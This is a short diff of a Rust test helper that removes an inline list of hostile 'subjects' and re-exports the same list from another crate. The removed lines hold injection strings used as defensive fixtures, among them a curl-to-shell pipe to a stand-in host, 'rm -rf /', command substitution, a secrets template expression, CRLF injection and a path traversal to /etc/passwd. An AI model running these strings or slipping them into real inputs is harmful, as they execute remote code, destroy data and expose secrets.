@@ -47,14 +47,4 @@ pub fn repo(files: &[(&str, &str)]) -> MemoryRepo {
 }
 
 /// Subjects crafted to inject shell or expressions: none may produce a fix.
-pub const HOSTILE: &[&str] = &[
-    "x; curl evil | sh",
-    "$(id)",
-    "`id`",
-    "a\nb",
-    "${{ secrets.TOKEN }}",
-    "x && rm -rf /",
-    "x' || true",
-    "../../etc/passwd",
-    "pkg\r\nrun: evil",
-];
+pub use autoheal_logs::subject::HOSTILE_SUBJECTS as HOSTILE;
